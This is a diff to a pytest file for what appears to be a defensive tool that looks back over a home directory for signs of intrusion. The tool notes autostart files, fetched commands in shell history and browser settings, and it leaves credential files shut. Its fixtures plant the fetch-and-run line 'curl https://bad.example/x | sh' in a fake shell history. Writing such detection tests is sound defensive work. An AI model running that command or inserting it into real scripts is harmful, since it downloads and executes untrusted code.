@@ -30,9 +30,6 @@ OLD = NOW - timedelta(days=30)
 EXCLUDED = r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths"
 CURL, DPKG = "curl https://bad.example/x | sh", "%Y-%m-%d %H:%M:%S install came"
 FETCHING = [line for line in COPIED["malicious"] if "//" in line]
-RULE = {"setting": 1, "last_modified": str(since_1601(NOW))}
-PAGES = {"https://bad.example:443,*": RULE, "https://no.example:443,*": RULE | {"setting": 2}}
-PREFERENCES = json.dumps({"profile": {"content_settings": {"exceptions": {"notifications": PAGES}}}})
 
 SPOILT: dict[str, Callable[[Path], object]] = {
     "huge": lambda file: (file.touch(), os.truncate(file, 10**9)),
@@ -101,7 +98,7 @@ def test_what_linux_notes_and_where_it_cannot_look(home: Path) -> None:
     put(home, ".config/autostart/evil.desktop", "")
     os.utime(put(home, ".config/autostart/old.desktop", ""), (OLD.timestamp(), OLD.timestamp()))
     put(home, ".bash_history", f"ls\n{CURL}\n")
-    put(home, ".config/chromium/Default/Preferences", PREFERENCES[:-9])
+    put(home, ".config/chromium/Default/Preferences", '{"profile": {')
     evidence = look_back()
     assert found(evidence) == {"programs": {"came"}, "starts": {"evil.desktop"}, "fetched": {CURL}}
     assert [looked.probe for looked in evidence if looked.closed] == ["notices"], "a torn file was not looked at"
@@ -113,7 +110,7 @@ def test_what_linux_notes_and_where_it_cannot_look(home: Path) -> None:
 @pytest.mark.linux("a home as it has it")
 def test_passwords_and_cookies_stay_shut_and_nothing_is_written(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     for name in ("Default/Login Data", "Default/Cookies", "Default/Preferences", "Local State"):
-        put(home, f".config/google-chrome/{name}", PREFERENCES)
+        put(home, f".config/google-chrome/{name}", "{}")
     opened, reads = set[tuple[str, str]](), Path.open
     monkeypatch.setattr(Path, "open", lambda path, mode: opened.add((path.name, mode)) or reads(path, mode))
     look_back()
@@ -125,12 +122,12 @@ def test_what_a_stranger_wrote_acts_on_no_console(
     home: Path, library: Library, capsys: pytest.CaptureFixture[str]
 ) -> None:
     put(home, ".bash_history", f"{CURL}\u202e\x1b[2J\n")
-    for as_json in (True, False):
+    for as_json in (False, True):
         assert run(library.texts("ja"), timedelta(hours=48), as_json=as_json) == 0
         text = capsys.readouterr().out
         assert CURL in text
         assert not {"\x1b", "\u202e"} & {*text}
-        assert not as_json or [looked["probe"] for looked in json.loads(text)] == [probe.__name__ for probe in PROBES]
+    assert [looked["probe"] for looked in json.loads(text)] == [probe.__name__ for probe in PROBES]
 
 
 def test_what_lies_ahead_is_not_told_and_the_first_of_many_is(library: Library) -> None:
